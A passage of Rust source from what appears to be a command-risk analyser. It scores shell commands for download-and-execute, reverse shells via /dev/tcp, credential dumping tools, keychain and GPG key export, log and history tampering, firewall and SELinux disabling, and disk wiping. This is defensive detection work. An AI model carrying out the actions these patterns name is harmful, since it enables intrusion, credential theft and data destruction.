            self.add((PrivilegeEscalation, "sudo_shell_escape", 80), whole);
        }
        if lc.contains("b64decode")
            || lc.contains("base64_decode")
            || lc.contains("frombase64string")
            || lc.contains("decode_base64")
            || lc.contains("atob(")
        {
            self.add((DefenseEvasion, "obfuscated_code", 45), whole);
        }
        // String literals: sensitive paths, and shell commands handed to system()/exec()/popen().
        for (s, e) in string_literals(code) {
            let lit = code.get(s..e).unwrap_or_default();
            let lit_span = src.orig(s, e);
            if let Some(cl) = paths::classify_read(lit) {
                let opened_for_write = code
                    .get(e..)
                    .unwrap_or_default()
                    .trim_start()
                    .trim_start_matches([',', ' '])
                    .starts_with(['\'', '"'])
                    && code.get(e..e + 8).unwrap_or_default().contains('w');
                if !opened_for_write {
                    self.add(cl, lit_span);
                }
            }
            if let Some(cl) = paths::classify_write(lit) {
                let after = code.get(e..(e + 12).min(code.len())).unwrap_or_default();
                if after.contains("'a'")
                    || after.contains("\"a\"")
                    || after.contains("'w'")
                    || after.contains("\"w\"")
                    || after.contains(">>")
                {
                    self.add(cl, lit_span);
                }
            }
            let before = code.get(s.saturating_sub(24)..s.saturating_sub(1)).unwrap_or_default().to_ascii_lowercase();
            let shellish = [
                "system(",
                "popen(",
                "exec(",
                "call(",
                "run(",
                "check_output(",
                "spawn(",
                "shell_exec(",
                "passthru(",
                "exec ",
                "system ",
                "`",
                "qx(",
            ]
            .iter()
            .any(|m| before.contains(m));
            if shellish && lit.contains(' ') || lit.starts_with("/bin/") && lit.contains(' ') {
                let sub = src_slice(src, s, e);
                self.source(&sub, depth + 1);
            }
            if (lc.contains("b64decode") || lc.contains("base64"))
                && lit.len() >= 12
                && let Some(text) = decode_b64(lit).and_then(|b| String::from_utf8(b).ok())
            {
                let sub = Src::opaque(text, lit_span);
                self.source(&sub, depth + 1);
                self.script_code(&sub, depth + 1, c);
            }
            if (lit.contains("rm -rf") || lc.contains("rmtree") || lc.contains("os.remove") || lc.contains("unlink"))
                && paths::critical_delete_target(lit).is_some_and(|s| s >= 80)
            {
                self.add((Destructive, "recursive_delete_in_code", 85), lit_span);
            }
        }
    }

    /// Rules for one simple command. `upstream` are the commands piped into it.
    fn simple(&mut self, c: &Cmd<'_>, upstream: &[&(Cmd<'_>, Flow)], depth: usize) {
        use Category::*;
        // Substitutions run as code when they are the command itself or what an interpreter is given.
        let interp_like = is_interpreter(&c.name) || ["source", ".", "eval", "exec"].contains(&c.name.as_str());
        for (i, w) in c.simple.words.iter().enumerate() {
            let is_cmd = c.word_idx == Some(i);
            let is_arg = c.word_idx.is_some_and(|k| i > k);
            self.word_subs(w, depth, is_cmd || (interp_like && is_arg));
        }
        for w in &c.simple.assigns {
            self.word_subs(w, depth, false);
            if substitution_downloads(w)
                && let Some((k, _)) = w.text.split_once('=')
            {
                self.download_vars.push(k.to_owned());
            }
        }
        for r in &c.simple.redirs {
            if let Some(t) = &r.target {
                self.word_subs(t, depth, interp_like && r.op == RedirOp::HereString);
            }
        }
        self.assignments(c);
        let content = Self::upstream_literal(upstream);
        self.redirections(c, depth, Some(&content));
        self.args_read(c);
        // `$(curl …)` as the program, or `bash <(curl …)` / `bash -c "$(curl …)"` / `eval "$(curl …)"`.
        if let Some(w) = c.word
            && substitution_downloads(w)
        {
            self.add((DownloadExecute, "download_substituted_into_command", 85), c.span());
        }
        let uses_download_var = |t: &str| {
            self.download_vars.iter().any(|v| t.contains(&format!("${v}")) || t.contains(&format!("${{{v}}}")))
        };
        if interp_like && c.args.iter().any(|w| uses_download_var(&w.text)) {
            self.add((DownloadExecute, "downloaded_variable_executed", 85), c.span());
        }
        if interp_like && c.args.iter().any(|w| substitution_downloads(w)) {
            self.add((DownloadExecute, "download_substituted_into_interpreter", 90), c.span());
        }
        if interp_like && c.args.iter().any(|w| substitution_decodes(w)) {
            self.add((DefenseEvasion, "decoded_payload_executed", 55), c.span());
        }
        self.downloaded_run(c);
        if c.sudo && c.word.is_none() && c.sudo_shell {
            self.add((PrivilegeEscalation, "sudo_root_shell", 80), c.span());
        }
        if c.sudo
            && (SHELLS.contains(&c.name.as_str()) && c.positionals().is_empty() && !c.has_arg("-c")
                || c.sudo_shell && c.word.is_some())
        {
            self.add((PrivilegeEscalation, "sudo_root_shell", 80), c.span());
        }
        if c.sudo && c.args.iter().any(|w| spawns_shell(&w.text)) {
            self.add((PrivilegeEscalation, "sudo_shell_escape", 80), c.span());
        }
        let n = c.name.as_str();
        match n {
            _ if SHELLS.contains(&n) => self.shell_cmd(c, depth),
            "eval" => self.eval_args(c, depth),
            "su" => {
                let cmd = opt_values(&c.args, &['c'], &["command"], "sgC");
                for (w, _) in &cmd {
                    self.code("sh", w, depth + 1, c);
                }
                let pos: Vec<&str> =
                    operands(&c.args, "csgC", &["command", "shell", "group"]).iter().map(|w| w.text.as_str()).collect();
                if cmd.is_empty() && (pos.is_empty() || pos == ["-"] || pos.contains(&"root")) {
                    let score = if c.sudo { 85 } else { 75 };
                    self.add((PrivilegeEscalation, "switch_to_root", score), c.span());
                }
            }
            "pkexec" => {
                let shellish = c.positionals().first().is_some_and(|w| SHELLS.contains(&lc_basename(&w.text).as_str()));
                self.add((PrivilegeEscalation, "pkexec", if shellish { 85 } else { 60 }), c.span());
            }
            _ if is_interpreter(n) => self.interpreter(c, depth),
            "source" | "." => {}
            "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => {
                if let Some(prog) = operands(&c.args, "Fvf", &["field-separator", "assign", "file"]).first()
                    && !c.has_flag('f', "file") {
                        self.code("awk", prog, depth + 1, c);
                    }
            }
            "rm" | "unlink" | "srm" | "rmdir" => self.rm(c),
            "shred" | "wipe" => {
                let sensitive = c
                    .positionals()
                    .iter()
                    .any(|w| paths::critical_delete_target(&w.text).is_some() || paths::is_sensitive(&w.text));
                self.add((Destructive, "secure_delete", if sensitive { 85 } else { 70 }), c.span());
                for w in c.positionals() {
                    if let Some(cl) = paths::classify_write(&w.text).filter(|cl| cl.0 == DefenseEvasion) {
                        self.add(cl, w.span);
                    }
                }
            }
            "find" => self.find(c, depth),
            "dd" => {
                for w in &c.args {
                    if let Some(dev) = w.text.strip_prefix("of=")
                        && let Some(cl) = paths::classify_write(dev) {
                            self.add(cl, w.span);
                        }
                    if let Some(f) = w.text.strip_prefix("if=")
                        && let Some(cl) = paths::classify_read(f) {
                            self.add(cl, w.span);
                        }
                }
            }
            "git" => self.git(c),
            "truncate"
                if (c.arg_texts().any(|t| t == "0" || t == "-s0" || t == "--size=0") || c.has_arg("-s")) => {
                    for w in operands(&c.args, "sr", &["size", "reference"]) {
                        let log = paths::classify_write(&w.text).is_some_and(|cl| cl.0 == DefenseEvasion)
                            || w.text.ends_with(".log");
                        self.add((Destructive, "truncate_file", if log { 70 } else { 40 }), c.span());
                        if log {
                            self.add((DefenseEvasion, "log_tampering", 65), w.span);
                        }
                    }
                }
            "chmod" => self.chmod(c),
            "chown" | "chgrp"
                if c.has_flag('R', "recursive")
                    && c.positionals()
                        .iter()
                        .skip(1)
                        .any(|w| paths::critical_delete_target(&w.text).is_some_and(|s| s >= 95))
                => {
                    self.add((Destructive, "recursive_chown_system", 75), c.span());
                }
            "chattr"
                if c.arg_texts().any(|t| {
                    (t.starts_with('+') || t.starts_with('-')) && (t.contains('i') || t.contains('a')) && t.len() <= 4
                }) => {
                    self.add((DefenseEvasion, "immutable_attribute", 65), c.span());
                }
            "touch"
                // Back-dating matters for files an investigator would check, not for build markers.
                if (c.has_flag('d', "date") || c.has_flag('t', "") || c.has_flag('r', "reference")) => {
                    let system = c.positionals().iter().any(|w| {
                        let p = paths::normalise(&w.text);
                        [
                            "/usr", "/bin", "/sbin", "/etc", "/lib", "/var", "/opt", "/boot", "/root", "/library",
                            "/system",
                        ]
                        .iter()
                        .any(|d| p.starts_with(d))
                            || paths::classify_write(&w.text).is_some()
                    });
                    self.add((DefenseEvasion, "timestomp", if system { 65 } else { 45 }), c.span());
                }
            "kill" | "pkill" | "killall" | "skill" => {
                if c.args.iter().any(|w| security_process(&w.text)) {
                    self.add((DefenseEvasion, "security_process_killed", 70), c.span());
                }
                if n == "kill" && c.has_arg("-1") && c.args.len() >= 2 {
                    self.add((Destructive, "kill_all_processes", 65), c.span());
                }
            }
            "history"
                if (c.has_flag('c', "")
                    || c.has_flag('d', "")
                    || c.has_flag('w', "") && c.arg_texts().any(|t| t == "/dev/null"))
                => {
                    self.add((DefenseEvasion, "history_cleared", 70), c.span());
                }
            "unset"
                if c.arg_texts().any(|t| t == "HISTFILE" || t == "HISTORY" || t == "HISTSIZE") => {
                    self.add((DefenseEvasion, "history_disabled", 70), c.span());
                }
            "set" | "shopt"
                if (c.arg_texts().collect::<Vec<_>>().windows(2).any(|w| w == ["+o", "history"])
                    || c.has_arg("-u") && c.has_arg("histappend"))
                => {
                    self.add((DefenseEvasion, "history_disabled", 70), c.span());
                }
            "systemctl" | "service" | "launchctl" | "rc-service" | "update-rc.d" | "chkconfig" => self.services(c),
            "setenforce"
                if (c.has_arg("0") || c.arg_texts().any(|t| t.eq_ignore_ascii_case("permissive"))) => {
                    self.add((DefenseEvasion, "selinux_disabled", 75), c.span());
                }
            "ufw"
                if (c.has_arg("disable") || c.has_arg("reset")) => {
                    self.add((DefenseEvasion, "firewall_disabled", 75), c.span());
                }
            "iptables" | "ip6tables" | "iptables-legacy" | "nft"
                if (c.has_flag('F', "flush")
                    || c.has_flag('X', "delete-chain")
                    || c.arg_texts().any(|t| t == "ACCEPT") && c.has_flag('P', "policy")
                    || n == "nft" && c.has_arg("flush"))
                => {
                    self.add((DefenseEvasion, "firewall_disabled", 70), c.span());
                }
            "auditctl"
                if (c.has_flag('D', "") || c.arg_texts().collect::<Vec<_>>().windows(2).any(|w| w == ["-e", "0"])) => {
                    self.add((DefenseEvasion, "audit_disabled", 75), c.span());
                }
            "journalctl"
                if c.arg_texts().any(|t| t.starts_with("--vacuum")) => {
                    self.add((DefenseEvasion, "log_tampering", 70), c.span());
                }
            "spctl" | "csrutil"
                if (c.has_arg("--master-disable") || c.has_arg("disable") || c.has_arg("--global-disable")) => {
                    self.add((DefenseEvasion, "platform_protection_disabled", 80), c.span());
                }
            "sysctl"
                if c.arg_texts().any(|t| {
                    t.contains("randomize_va_space=0")
                        || t.contains("ptrace_scope=0")
                        || t.contains("kptr_restrict=0")
                        || t.contains("dmesg_restrict=0")
                }) => {
                    self.add((DefenseEvasion, "kernel_hardening_change", 65), c.span());
                }
            "dmesg"
                if (c.has_flag('C', "clear") || c.has_flag('c', "read-clear")) => {
                    self.add((DefenseEvasion, "log_tampering", 60), c.span());
                }
            "aa-teardown" | "aa-disable" | "apparmor_parser" if n != "apparmor_parser" || c.has_flag('R', "remove") => {
                self.add((DefenseEvasion, "apparmor_disabled", 70), c.span());
            }
            "wevtutil"
                if c.arg_texts().any(|t| t.eq_ignore_ascii_case("cl") || t.eq_ignore_ascii_case("clear-log")) => {
                    self.add((DefenseEvasion, "log_tampering", 80), c.span());
                }
            "crontab" => {
                if c.has_flag('r', "") {
                    self.add((Destructive, "crontab_removed", 60), c.span());
                } else if c.has_flag('l', "") {
                } else if c.has_flag('e', "") {
                    self.add((Persistence, "crontab_edit", 50), c.span());
                } else if !c.positionals().is_empty() && !c.has_arg("-") {
                    self.add((Persistence, "crontab_install", 75), c.span());
                } else if upstream.is_empty() {
                    self.add((Persistence, "crontab_install", 60), c.span());
                }
            }
            "at" | "batch"
                if (!upstream.is_empty() || c.has_flag('f', "")) => {
                    self.add((Persistence, "at_job", 55), c.span());
                }
            "defaults" => {
                if c.arg_texts().any(|t| t == "LoginHook" || t == "LogoutHook") {
                    self.add((Persistence, "login_hook", 80), c.span());
                }
                if c.arg_texts().any(|t| t == "LSQuarantine") {
                    self.add((DefenseEvasion, "quarantine_disabled", 60), c.span());
                }
            }
            "useradd" | "adduser" => {
                let uid0 = opt_values(&c.args, &['u'], &["uid"], "gGdskcepKbfZ").iter().any(|(_, v)| v == "0")
                    || c.has_flag('o', "non-unique");
                if uid0 {
                    self.add((PrivilegeEscalation, "uid0_account", 90), c.span());
                } else if n == "adduser"
                    && c.positionals().len() == 2
                    && c.positionals().get(1).is_some_and(|w| admin_group(&w.text))
                {
                    self.add((PrivilegeEscalation, "admin_group_membership", 80), c.span());
                } else {
                    self.add((Persistence, "account_created", 60), c.span());
                }
            }
            "usermod" | "gpasswd" => {
                let groups = opt_values(&c.args, &['G', 'g', 'a'], &["groups", "gid", "add"], "dlLpseuU");
                let adding = groups.iter().any(|(_, v)| v.split(',').any(admin_group))
                    || c.positionals().iter().any(|w| admin_group(&w.text));
                if adding {
                    self.add((PrivilegeEscalation, "admin_group_membership", 80), c.span());
                }
                if opt_values(&c.args, &['u'], &["uid"], "").iter().any(|(_, v)| v == "0") {
                    self.add((PrivilegeEscalation, "uid0_account", 90), c.span());
                }
            }
            "chpasswd" | "passwd"
                if (n == "chpasswd" || c.has_arg("root")) => {
                    self.add((Persistence, "password_set", 55), c.span());
                }
            "visudo" => self.add((PrivilegeEscalation, "sudoers_write", 70), c.span()),
            "setcap"
                if c.arg_texts().any(|t| {
                    let l = t.to_ascii_lowercase();
                    [
                        "cap_setuid",
                        "cap_setgid",
                        "cap_sys_admin",
                        "cap_dac_override",
                        "cap_dac_read_search",
                        "cap_sys_ptrace",
                        "=ep",
                        "all+ep",
                    ]
                    .iter()
                    .any(|m| l.contains(m))
                }) => {
                    self.add((PrivilegeEscalation, "capability_grant", 80), c.span());
                }
            "nsenter" => {
                let t1 = opt_values(&c.args, &['t'], &["target"], "").iter().any(|(_, v)| v == "1");
                if t1 || c.has_flag('a', "all") {
                    self.add((PrivilegeEscalation, "host_namespace_entry", 85), c.span());
                }
            }
            "docker" | "podman" | "nerdctl" => self.container(c, depth),
            "kubectl" | "oc" => self.kubectl(c, depth),
            "terraform" | "tofu" | "pulumi"
                if (c.has_arg("destroy") || c.has_arg("-destroy")) => {
                    self.add((Destructive, "infrastructure_destroy", 70), c.span());
                }
            "aws" => self.aws(c),
            "gcloud" | "az" | "gh" | "vault" => self.cloud_cli(c),
            "security" => {
                let sub = c.sub(0).unwrap_or_default();
                if ["find-generic-password", "find-internet-password", "find-certificate"].contains(&sub)
                    && (c.has_flag('w', "") || c.has_flag('g', "") || sub != "find-certificate")
                {
                    self.add((CredentialAccess, "keychain_dump", 85), c.span());
                } else if sub == "dump-keychain" || sub == "export" {
                    self.add((CredentialAccess, "keychain_dump", 90), c.span());
                }
            }
            "gpg" | "gpg2"
                if c.arg_texts()
                    .any(|t| t.starts_with("--export-secret-keys") || t.starts_with("--export-secret-subkeys"))
                => {
                    self.add((CredentialAccess, "gpg_secret_key_export", 75), c.span());
                }
            "secret-tool" | "kwallet-query" | "gnome-keyring-daemon"
                if (n != "secret-tool" || c.has_arg("lookup") || c.has_arg("search")) => {
                    self.add((CredentialAccess, "keyring_query", 65), c.span());
                }
            "lazagne"
            | "mimikatz"
            | "john"
            | "hashcat"
            | "hydra"
            | "unshadow"
            | "pypykatz"
            | "secretsdump.py"
            | "impacket-secretsdump"
            | "procdump"
            | "gsecdump"
            | "laZagne.py"
            | "truffleHog"
            | "trufflehog"
            | "gitleaks"
                if !["gitleaks", "trufflehog"].contains(&n)
                    || c.positionals().iter().any(|w| paths::is_broad_location(&w.text)) =>
            {
                self.add((CredentialAccess, "credential_dumping_tool", 80), c.span());
            }
            "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "git-grep" => self.grep(c),
            "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "nping"
                if c.args.iter().any(|w| dynamic_hostname(w)) => {
                    self.add((Exfiltration, "dns_exfiltration", 75), c.span());
                }
            _ if DOWNLOADERS.contains(&n) => self.downloader(c),
            _ if RAW_NET.contains(&n) => self.raw_net(c),
            "openssl"
                if c.has_arg("s_client") && c.simple.redirs.iter().any(|r| r.op == RedirOp::In) => {
                    let sens =
                        c.simple.redirs.iter().any(|r| r.target.as_ref().is_some_and(|t| paths::is_sensitive(&t.text)));
                    self.add((Exfiltration, "tls_socket_file_send", if sens { 90 } else { 70 }), c.span());
                }
            "ssh" | "autossh" => self.ssh(c, depth),
            "ngrok" | "cloudflared" | "lt" | "localtunnel" | "bore" | "frpc" | "chisel" | "pinggy" | "serveo"
            | "zrok" | "tmate" => {
                let tunnel = n != "cloudflared" || c.has_arg("tunnel") || c.has_arg("access");
                if tunnel {
                    self.add((RemoteShell, "tunnel_service", 75), c.span());
                }
            }
            "scp" | "sftp" | "rsync" | "rclone" | "gsutil" | "azcopy" | "s3cmd" | "lftp" | "ftp" | "smbclient"
            | "curlftpfs" => self.upload(c),
            "mail" | "mailx" | "sendmail" | "mutt" | "swaks" => {
                let attach = opt_values(&c.args, &['a', 'A'], &["attach", "attach-file"], "sbcrfS")
                    .into_iter()
                    .map(|(w, v)| (w.span, v))
                    .collect::<Vec<_>>();
                let redir_in: Vec<(Span, String)> = c
                    .simple
                    .redirs
                    .iter()
                    .filter(|r| r.op == RedirOp::In)
                    .filter_map(|r| r.target.as_ref().map(|t| (t.span, t.text.clone())))
                    .collect();
                for (span, path) in attach.iter().chain(redir_in.iter()) {
                    let sens = paths::is_sensitive(path);
                    self.add(
                        (Exfiltration, "mail_file_send", if sens { 90 } else { 65 }),
                        Span::new(c.span().start, span.end.max(c.span().start)),
                    );
                }
            }
            "mkfs" | "mke2fs" | "mkswap" | "wipefs" | "sgdisk" | "sfdisk" | "fdisk" | "parted" | "mkfs.ext4"
            | "mkfs.ext3" | "mkfs.ext2" | "mkfs.xfs" | "mkfs.btrfs" | "mkfs.vfat" | "mkfs.fat" | "mkfs.ntfs"
            | "blkdiscard" | "format" | "diskutil" => {
                let dev =
                    c.args.iter().any(|w| {
                        paths::is_block_device(&paths::normalise(&w.text)) || w.text.eq_ignore_ascii_case("c:")
                    }) || (n == "diskutil"
                        && c.arg_texts().any(|t| t.starts_with("erase") || t == "zeroDisk" || t == "secureErase"));
                let read_only =
                    (n == "fdisk" || n == "parted" || n == "sfdisk") && (c.has_flag('l', "list") || c.has_arg("print"));
                if dev && !read_only {
                    self.add((Destructive, "disk_format", 90), c.span());
                }
            }
            _ if n.starts_with("mkfs.") => self.add((Destructive, "disk_format", 90), c.span()),
            "zpool" | "zfs" | "lvremove" | "vgremove" | "pvremove" | "mdadm" | "cryptsetup"
                if (c.has_arg("destroy")
                    || n.ends_with("remove")
                    || c.has_arg("--zero-superblock")
                    || c.has_arg("luksErase")
                    || c.has_arg("erase"))
                => {
                    self.add((Destructive, "storage_destroyed", 85), c.span());
                }
            "vssadmin" | "wbadmin" | "bcdedit"
                if c.arg_texts().any(|t| t.eq_ignore_ascii_case("delete") || t.eq_ignore_ascii_case("recoveryenabled"))
                => {
                    self.add((Destructive, "recovery_destroyed", 90), c.span());
                }
            "shutdown" | "reboot" | "halt" | "poweroff" => self.add((Destructive, "system_shutdown", 55), c.span()),
            "init" | "telinit"
                if (c.has_arg("0") || c.has_arg("6")) => {
                    self.add((Destructive, "system_shutdown", 55), c.span());
                }
            "dropdb" | "dropuser" => self.add((Destructive, "database_dropped", 80), c.span()),
            "psql" | "mysql" | "mariadb" | "sqlite3" | "sqlcmd" | "clickhouse-client" | "cockroach" | "mongo"
            | "mongosh" | "redis-cli" => self.database(c),
            "insmod" | "modprobe"
                if !c.has_flag('r', "remove") => {
                    self.add((Persistence, "kernel_module_load", 60), c.span());
                }
            "certutil"
                if c.arg_texts().any(|t| t.eq_ignore_ascii_case("-urlcache") || t.eq_ignore_ascii_case("/urlcache")) => {
                    self.add((DownloadExecute, "certutil_download", 75), c.span());
                }
            "mshta" | "regsvr32" | "rundll32"
                if c.arg_texts()
                    .any(|t| t.to_ascii_lowercase().contains("http") || t.to_ascii_lowercase().contains("javascript:"))
                => {
                    self.add((DownloadExecute, "signed_binary_proxy_execution", 85), c.span());
                }
            "schtasks"
                if c.arg_texts().any(|t| t.eq_ignore_ascii_case("/create")) => {
                    self.add((Persistence, "scheduled_task", 70), c.span());
                }
            "reg"
                if c.arg_texts().any(|t| t.to_ascii_lowercase().contains("\\currentversion\\run")) => {
                    self.add((Persistence, "registry_run_key", 75), c.span());
                }
            "systemd-run"
                if c.arg_texts().any(|t| t.starts_with("--on-") || t.starts_with("--unit")) => {
                    self.add((Persistence, "transient_timer", 55), c.span());
                }
            _ => {}
        }
        // Writers: cp / mv / install / ln / tee / sed -i / rsync (local).
        self.file_writes(c, upstream);
    }

    fn assignments(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let mut words: Vec<&Word> = c.assigns.clone();
        if ["export", "declare", "typeset", "readonly", "local"].contains(&c.name.as_str()) {
            words.extend(c.args.iter().copied().filter(|w| shell::is_assignment(&w.text)));
        }
        for w in words {
            let (k, v) = w.text.split_once('=').unwrap_or((&w.text, ""));
            let k = k.trim_end_matches('+');
            match k {
                "HISTFILE" if v.is_empty() || v == "/dev/null" => {
                    self.add((DefenseEvasion, "history_disabled", 70), w.span)
                }
                "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST" if v == "0" || v.is_empty() => {
                    self.add((DefenseEvasion, "history_disabled", 70), w.span)
                }
                "HISTCONTROL" if v.contains("ignorespace") || v.contains("ignoreboth") => {
                    self.add((DefenseEvasion, "history_disabled", 40), w.span)
                }
                "LD_PRELOAD" | "DYLD_INSERT_LIBRARIES" | "LD_LIBRARY_PATH" if k != "LD_LIBRARY_PATH" || c.sudo => {
                    if c.sudo || c.simple.words.first().is_some_and(|w| w.text == "sudo") {
                        self.add((PrivilegeEscalation, "sudo_ld_preload", 80), w.span);
                    } else {
                        self.add((DefenseEvasion, "library_injection", 55), w.span);
                    }
                }
                "PROMPT_COMMAND" if !v.is_empty() => self.add((Persistence, "prompt_command_hook", 55), w.span),
                _ => {}
            }
        }
    }

    /// Redirections of one command (or group): writes to sensitive files, reads of secrets, `/dev/tcp`.
    fn redirections(&mut self, c: &Cmd<'_>, depth: usize, upstream_content: Option<&str>) {
        use Category::*;
        let n = c.name.as_str();
        let dup_std = c.simple.redirs.iter().any(|r| {
            matches!(r.op, RedirOp::DupIn | RedirOp::DupOut | RedirOp::InOut | RedirOp::OutErr)
                && (r.fd.is_none_or(|fd| fd <= 2))
        });
        for r in &c.simple.redirs {
            let Some(t) = &r.target else { continue };
            let target = t.text.as_str();
            if target.contains("/dev/tcp/") || target.contains("/dev/udp/") {
                let (_, host) = paths::url_host(
                    target.split("/dev/tcp/").nth(1).or_else(|| target.split("/dev/udp/").nth(1)).unwrap_or_default(),
                );
                let local = host == "localhost" || host.starts_with("127.");
                if SHELLS.contains(&n) && (dup_std || c.has_flag('i', "")) {
                    self.add((RemoteShell, "dev_tcp_reverse_shell", 95), c.span());
                } else if (n == "exec" || c.word.is_none()) && r.op == RedirOp::InOut {
                    self.add((RemoteShell, "dev_tcp_socket", if local { 40 } else { 70 }), c.span());
                } else if r.op.writes() {
                    self.add((Exfiltration, "dev_tcp_send", if local { 40 } else { 80 }), c.span());
                } else {
                    self.add((DownloadExecute, "dev_tcp_receive", 50), c.span());
                }
                continue;
            }
            if r.op.writes()
                && !(r.op == RedirOp::DupOut && target.bytes().all(|b| b.is_ascii_digit() || b == b'-'))
                && let Some(mut cl) = paths::classify_write(target)
            {
                let append = matches!(r.op, RedirOp::Append | RedirOp::AppendErr);
                if cl.0 == DefenseEvasion && append && cl.1 == "log_tampering" {
                    continue;
                }
                if cl.1 == "shell_startup_file_write" {
                    let mut content = c.args.iter().map(|w| w.text.clone()).collect::<Vec<_>>().join(" ");
                    for b in c.simple.redirs.iter().filter_map(|r| {
                        r.body.as_ref().or(if r.op == RedirOp::HereString { r.target.as_ref() } else { None })
                    }) {
                        content.push(' ');
                        content.push_str(&b.text);
                    }
                    if let Some(u) = upstream_content {
                        content.push(' ');
                        content.push_str(u);
                    }
                    if !["echo", "printf", "cat", "tee"].contains(&n) && c.word.is_some() {
                        content.push_str(" <unknown>");
                    }
                    cl.2 = startup_content_score(&content);
                    if cl.2 == 0 {
                        continue;
                    }
                }
                self.add(cl, Span::new(r.span.start, t.span.end.max(r.span.start)));
            }
            if r.op.reads()
                && let Some(cl) = paths::classify_read(target)
            {
                self.add(cl, t.span);
            }
            if matches!(r.op, RedirOp::HereDoc | RedirOp::HereString) {
                let body = if r.op == RedirOp::HereDoc { r.body.as_ref() } else { Some(t) };
                if let Some(b) = body
                    && is_interpreter(n)
                    && !c.has_arg("-c")
                {
                    let dummy_interp = if SHELLS.contains(&n) { "sh" } else { n };
                    self.code(dummy_interp, b, depth + 1, c);
                }
            }
        }
    }

    /// Arguments that name credential stores, for commands that read their arguments.
    fn args_read(&mut self, c: &Cmd<'_>) {
        // Interpreters' code arguments are analysed as code, not as paths.
        if NON_READERS.contains(&c.name.as_str())
            || c.word.is_none()
            || is_interpreter(&c.name)
            || ["eval", "su", "awk", "gawk"].contains(&c.name.as_str())
        {
            return;
        }
        let dest_excluded = matches!(c.name.as_str(), "cp" | "install" | "rsync" | "ln" | "mv");
        let last = c.positionals().last().copied();
        for w in &c.args {
            if dest_excluded && last.is_some_and(|l| std::ptr::eq(l, *w)) {
                continue;
            }
            for p in arg_paths(&w.text) {
                if let Some(cl) = paths::classify_read(&p) {
                    self.add(cl, w.span);
                }
            }
        }
    }

    fn file_writes(&mut self, c: &Cmd<'_>, upstream: &[&(Cmd<'_>, Flow)]) {
        use Category::*;
        let n = c.name.as_str();
        let targets: Vec<&Word> = match n {
            "cp" | "install" | "ln" | "rsync" => {
                let ops = operands(&c.args, "tSmogb", &["target-directory", "suffix", "mode", "owner", "group"]);
                let mut t: Vec<&Word> = ops.last().copied().into_iter().collect();
                if let Some((w, _)) = opt_values(&c.args, &['t'], &["target-directory"], "").first() {
                    t.push(*w);
                }
                if n == "rsync" && t.iter().any(|w| is_remote_path(&w.text)) { Vec::new() } else { t }
            }
            "mv" => c.positionals(),
            "tee" => c.positionals(),
            "sed" | "perl"
                if c.arg_texts().any(|t| t.starts_with("-i") || t == "--in-place" || t.starts_with("-pi")) =>
            {
                let ops = operands(&c.args, "ef", &["expression", "file"]);
                // The first operand is the script unless -e was used.
                if c.has_arg("-e") { ops } else { ops.into_iter().skip(1).collect() }
            }
            _ => Vec::new(),
        };
        if targets.is_empty() {
            return;
        }
        let script_text = c.args.iter().map(|w| w.text.clone()).collect::<Vec<_>>().join(" ");
        for w in targets {
            // A directory destination (`cp x.desktop ~/.config/autostart/`) is classified by its prefix.
            let Some(mut cl) = paths::classify_write(&w.text) else { continue };
            if cl.1 == "shell_startup_file_write" {
                let content = match n {
                    "tee" => {
                        Self::upstream_literal(upstream)
                            + " "
                            + &c.simple
                                .redirs
                                .iter()
                                .filter_map(|r| {
                                    r.target.as_ref().filter(|_| r.op == RedirOp::HereString).or(r.body.as_ref())
                                })
                                .map(|b| b.text.clone())
                                .collect::<Vec<_>>()
                                .join(" ")
                    }
                    "sed" | "perl" => script_text.clone(),
                    _ => "<unknown>".to_owned(),
                };
                cl.2 = startup_content_score(&content);
                if cl.2 == 0 {
                    continue;
                }
            }
            if cl.1 == "security_config_write"
                && (n == "sed" || n == "perl")
                && script_text.to_ascii_lowercase().contains("disabled")
            {
                cl = (DefenseEvasion, "selinux_disabled", 75);
            }
            if cl.1 == "systemd_unit_write" || cl.1 == "launchd_plist_write" {
                self.wrote_service = true;
            }
            self.add(cl, w.span);
        }
    }

    fn shell_cmd(&mut self, c: &Cmd<'_>, depth: usize) {
        use Category::*;
        // `-c STRING`, also in clusters such as `-lc`, `-ic`; the string is the first operand after it.
        let mut code: Option<&Word> = None;
        let mut seen_c = false;
        for w in &c.args {
            let t = w.text.as_str();
            if seen_c && !t.starts_with('-') {
                code = Some(*w);
                break;
            }
            if t.starts_with('-') && !t.starts_with("--") && t.contains('c') && t.len() <= 5 {
                seen_c = true;
            }
        }
        if let Some(w) = code {
            self.code("sh", w, depth + 1, c);
        }
        if c.has_arg("-p") && code.is_none() {
            self.add((PrivilegeEscalation, "privileged_shell", 60), c.span());
        }
        if code.is_none() {
            for w in c.positionals() {
                if self.is_download(&w.text) {
                    self.add((DownloadExecute, "downloaded_file_executed", 85), c.span());
                }
                if w.process_sub && w.subs.iter().any(script_downloads) {
                    self.add((DownloadExecute, "download_substituted_into_interpreter", 90), c.span());
                }
            }
        }
    }

    fn eval_args(&mut self, c: &Cmd<'_>, depth: usize) {
        match c.args.as_slice() {
            [one] => self.code("sh", one, depth + 1, c),
            [first, .., last] => {
                let text = c.args.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
                let src = Src::opaque(text, Span::new(first.span.start, last.span.end));
                self.source(&src, depth + 1);
            }
            [] => {}
        }
    }

    fn interpreter(&mut self, c: &Cmd<'_>, depth: usize) {
        let n = c.name.as_str();
        let flags: &[&str] = match n {
            _ if is_python(n) => &["-c"],
            "perl" | "ruby" | "lua" => &["-e", "-E"],
            "php" => &["-r"],
            "node" | "nodejs" | "deno" | "bun" => &["-e", "--eval", "-p", "--print", "eval"],
            "pwsh" | "powershell" => &["-c", "-command", "-encodedcommand", "-enc", "-e", "-ec"],
            "osascript" => &["-e"],
            _ => &[],
        };
        let mut i = 0;
        while let Some(w) = c.args.get(i) {
            let t = w.text.to_ascii_lowercase();
            if flags.contains(&t.as_str()) {
                if let Some(code) = c.args.get(i + 1) {
                    if (n == "pwsh" || n == "powershell") && t.starts_with("-e") {
                        // -EncodedCommand: base64 of UTF-16LE.
                        if let Some(b) = decode_b64(&code.text) {
                            let units: Vec<u16> = b
                                .chunks(2)
                                .map(|p| {
                                    u16::from(p.first().copied().unwrap_or(0))
                                        | (u16::from(p.get(1).copied().unwrap_or(0)) << 8)
                                })
                                .collect();
                            let text = String::from_utf16_lossy(&units);
                            let src = Src::opaque(text, code.span);
